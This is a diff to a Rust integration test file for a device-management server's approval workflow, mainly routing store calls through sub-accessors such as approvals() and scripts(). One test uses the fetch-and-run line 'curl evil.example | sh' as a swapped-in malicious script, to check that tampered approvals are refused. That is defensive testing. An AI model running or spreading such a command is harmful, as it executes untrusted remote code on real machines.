@@ -110,6 +110,7 @@ async fn pending_id(w: &World) -> String {
         if let Some(r) = w
             .store
             .org(w.org_a)
+            .approvals()
             .list_approvals(true, 10)
             .await
             .unwrap()
@@ -125,6 +126,7 @@ async fn pending_id(w: &World) -> String {
 async fn group_count(w: &World, name: &str) -> usize {
     w.store
         .org(w.org_a)
+        .tenancy()
         .list_groups()
         .await
         .unwrap()
@@ -170,6 +172,7 @@ async fn approve_runs_once_and_only_once(cx: Ctx) {
     let record = w
         .store
         .org(w.org_a)
+        .approvals()
         .get_approval(id.parse().unwrap())
         .await
         .unwrap();
@@ -291,6 +294,7 @@ async fn four_eyes_and_permissions(cx: Ctx) {
     let key = exec_key(&w).await;
     w.store
         .org(w.org_a)
+        .approvals()
         .set_approval_policy("manage_groups.create", "four_eyes", audit("policy"))
         .await
         .unwrap();
@@ -319,6 +323,7 @@ async fn four_eyes_and_permissions(cx: Ctx) {
     let id = pending_id(&w).await;
     let record = s
         .org(w.org_a)
+        .approvals()
         .get_approval(id.parse().unwrap())
         .await
         .unwrap();
@@ -341,6 +346,7 @@ async fn four_eyes_and_permissions(cx: Ctx) {
     // Other tools stay supervised.
     assert_eq!(
         s.org(w.org_a)
+            .approvals()
             .approval_mode("manage_groups", Some("delete"))
             .await
             .unwrap(),
@@ -544,7 +550,13 @@ async fn status_becomes(w: &World, id: &str, status: &str) -> breeze_store::Appr
     let id = id.parse().unwrap();
     let mut last = None;
     for _ in 0..400 {
-        let r = w.store.org(w.org_a).get_approval(id).await.unwrap();
+        let r = w
+            .store
+            .org(w.org_a)
+            .approvals()
+            .get_approval(id)
+            .await
+            .unwrap();
         if r.status.as_str() == status {
             return r;
         }
@@ -655,6 +667,7 @@ async fn a_pending_answer_detaches_the_request(cx: Ctx) {
     assert_eq!(
         w.store
             .org(w.org_a)
+            .approvals()
             .get_approval(id.parse().unwrap())
             .await
             .unwrap()
@@ -739,6 +752,7 @@ async fn calls_that_cannot_run_are_refused_before_anyone_is_asked(cx: Ctx) {
     assert!(
         w.store
             .org(w.org_a)
+            .approvals()
             .list_approvals(false, 10)
             .await
             .unwrap()
@@ -773,6 +787,7 @@ async fn an_approval_pins_the_script_it_runs(cx: Ctx) {
     let cookie = login(&w.app, "admin@p.test").await;
     let org = w.store.org(w.org_a);
     let original = org
+        .scripts()
         .create_script(script("cleanup", "rm -rf /tmp/cache"), audit("s"))
         .await
         .unwrap();
@@ -790,7 +805,11 @@ async fn an_approval_pins_the_script_it_runs(cx: Ctx) {
 
     let call = run(&w);
     let id = pending_id(&w).await;
-    let record = org.get_approval(id.parse().unwrap()).await.unwrap();
+    let record = org
+        .approvals()
+        .get_approval(id.parse().unwrap())
+        .await
+        .unwrap();
     let pinned = &record.pinned.as_ref().unwrap()["script"];
     assert_eq!(pinned["name"], "cleanup");
     assert_eq!(pinned["language"], "bash");
@@ -824,8 +843,12 @@ async fn an_approval_pins_the_script_it_runs(cx: Ctx) {
     );
 
     // Replaced under the same name before anyone approved.
-    org.delete_script(original.id, audit("s")).await.unwrap();
-    org.create_script(script("cleanup", "curl evil.example | sh"), audit("s"))
+    org.scripts()
+        .delete_script(original.id, audit("s"))
+        .await
+        .unwrap();
+    org.scripts()
+        .create_script(script("cleanup", "curl evil.example | sh"), audit("s"))
         .await
         .unwrap();
     let r = send(&w.app, decide(&cookie, &id, "approve", None)).await;
@@ -854,7 +877,11 @@ async fn an_approval_pins_the_script_it_runs(cx: Ctx) {
     assert!(msg.contains("changed after it was approved"), "{msg}");
     let device = w.a_device.parse().unwrap();
     assert!(
-        org.list_commands(device, 10).await.unwrap().is_empty(),
+        org.commands()
+            .list_commands(device, 10)
+            .await
+            .unwrap()
+            .is_empty(),
         "nothing reached the device"
     );
 }
@@ -870,11 +897,13 @@ async fn a_revoked_or_disabled_requester_voids_the_request(cx: Ctx) {
     let record = w
         .store
         .org(w.org_a)
+        .approvals()
         .get_approval(id.parse().unwrap())
         .await
         .unwrap();
     w.store
         .org(w.org_a)
+        .api_keys()
         .revoke_api_key(record.api_key_id.unwrap(), audit("k"))
         .await
         .unwrap();
@@ -973,7 +1002,7 @@ async fn send_frame(ws: &mut Socket, frame: &AgentFrame) {
 
 /// An agent enrolled in organization A, connected over a real WebSocket; its device id.
 async fn connected_agent(w: &World) -> (String, Socket) {
-    let site = w.store.org(w.org_a).list_sites().await.unwrap()[0].id;
+    let site = w.store.org(w.org_a).tenancy().list_sites().await.unwrap()[0].id;
     let (secret, _) = w
         .state
         .auth
@@ -1131,7 +1160,11 @@ async fn automatic_approval_for_a_read_only_command_type(cx: Ctx) {
     // By default: pending, supervised; the person denies it.
     let call = spawn_call(list.clone());
     let id = pending_id(&w).await;
-    let r = org.get_approval(id.parse().unwrap()).await.unwrap();
+    let r = org
+        .approvals()
+        .get_approval(id.parse().unwrap())
+        .await
+        .unwrap();
     assert_eq!(
         (r.status.as_str(), r.mode.as_str()),
         ("pending", "supervised")
@@ -1143,13 +1176,14 @@ async fn automatic_approval_for_a_read_only_command_type(cx: Ctx) {
     assert_eq!(result["isError"], true, "{result}");
 
     // The organization opts in for list_processes: the call runs without a person.
-    org.set_approval_policy(
-        "execute_command.list_processes",
-        "automatic",
-        audit("approval_policy.set"),
-    )
-    .await
-    .unwrap();
+    org.approvals()
+        .set_approval_policy(
+            "execute_command.list_processes",
+            "automatic",
+            audit("approval_policy.set"),
+        )
+        .await
+        .unwrap();
     let call = spawn_call(list.clone());
     let ServerFrame::Command(cmd) = next_frame(&mut ws).await else {
         panic!("the automatically approved command reaches the agent")
@@ -1179,7 +1213,12 @@ async fn automatic_approval_for_a_read_only_command_type(cx: Ctx) {
         result["structuredContent"]["status"], "completed",
         "{result}"
     );
-    let r = org.list_approvals(false, 10).await.unwrap().remove(0);
+    let r = org
+        .approvals()
+        .list_approvals(false, 10)
+        .await
+        .unwrap()
+        .remove(0);
     assert_eq!(r.mode, "automatic");
     assert_eq!(r.status.as_str(), "completed", "ran once, recorded");
     assert_eq!(r.decided_by, None, "no person decided");
@@ -1189,6 +1228,7 @@ async fn automatic_approval_for_a_read_only_command_type(cx: Ctx) {
     );
     assert!(!w.store.claim_approval(r.id).await.unwrap());
     let page = org
+        .audit()
         .query_audit(
             &breeze_store::AuditFilter {
                 action: Some("approval.auto_approved".into()),
@@ -1212,7 +1252,11 @@ async fn automatic_approval_for_a_read_only_command_type(cx: Ctx) {
     let kill = spawn_call(json!({ "deviceId": device, "commandType": "kill_process",
                                   "payload": { "pid": 42 } }));
     let id = pending_id(&w).await;
-    let r = org.get_approval(id.parse().unwrap()).await.unwrap();
+    let r = org
+        .approvals()
+        .get_approval(id.parse().unwrap())
+        .await
+        .unwrap();
     assert_eq!(
         (r.action.as_deref(), r.mode.as_str()),
         (Some("kill_process"), "supervised")
@@ -1221,16 +1265,21 @@ async fn automatic_approval_for_a_read_only_command_type(cx: Ctx) {
     kill.await.unwrap();
 
     // Back to supervised: pending again.
-    org.set_approval_policy(
-        "execute_command.list_processes",
-        "supervised",
-        audit("approval_policy.set"),
-    )
-    .await
-    .unwrap();
+    org.approvals()
+        .set_approval_policy(
+            "execute_command.list_processes",
+            "supervised",
+            audit("approval_policy.set"),
+        )
+        .await
+        .unwrap();
     let call = spawn_call(list);
     let id = pending_id(&w).await;
-    let r = org.get_approval(id.parse().unwrap()).await.unwrap();
+    let r = org
+        .approvals()
+        .get_approval(id.parse().unwrap())
+        .await
+        .unwrap();
     assert_eq!(
         (r.status.as_str(), r.mode.as_str()),
         ("pending", "supervised")
